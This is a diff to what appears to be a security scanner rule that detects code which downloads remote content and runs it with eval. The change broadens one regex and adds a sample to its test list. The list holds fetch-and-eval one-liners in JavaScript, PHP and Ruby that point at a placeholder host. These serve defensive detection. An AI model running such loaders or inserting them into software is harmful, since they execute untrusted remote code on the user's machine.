@@ -25,7 +25,7 @@ export const rule: Rule = {
     },
     { re: /(?<![\w.$])eval\s*\(\s*\(?\s*await\s*\(?\s*\(?\s*(?:await\s*)?\(?\s*fetch\s*\(/ },
     { re: /(?<![\w.$])eval\s*\(\s*fetch\s*\(\s*["'`]https?:/ },
-    { re: /\.then\((?:eval|Function)\)/ },
+    { re: /\.then\((?:(?:eval|Function)\)|\(?\w+\)?\s?=>\s?(?:\(0,\s?eval\)|eval)\()/ },
     {
       re: /require\(\s*\\?["'](?:node:)?https?\\?["']\s*\)\.get\([^\n]*(?:eval\(|new\s+Function\(|execSync\(|child_process)/,
       window: 600,
@@ -49,6 +49,7 @@ export const rule: Rule = {
       "eval(await (await fetch('https://files.invalid/p.js')).text())",
       "eval(fetch('https://files.invalid/p.js'))",
       "fetch('https://files.invalid/p').then(r => r.text()).then(eval)",
+      'fetch(u).then(r=>r.text()).then(t=>(0,eval)(t));',
       "<?php eval('?>'.file_get_contents('https://files.invalid/p.txt'));",
       'ruby -e \'eval(URI.open("https://files.invalid/p").read)\'',
     ],
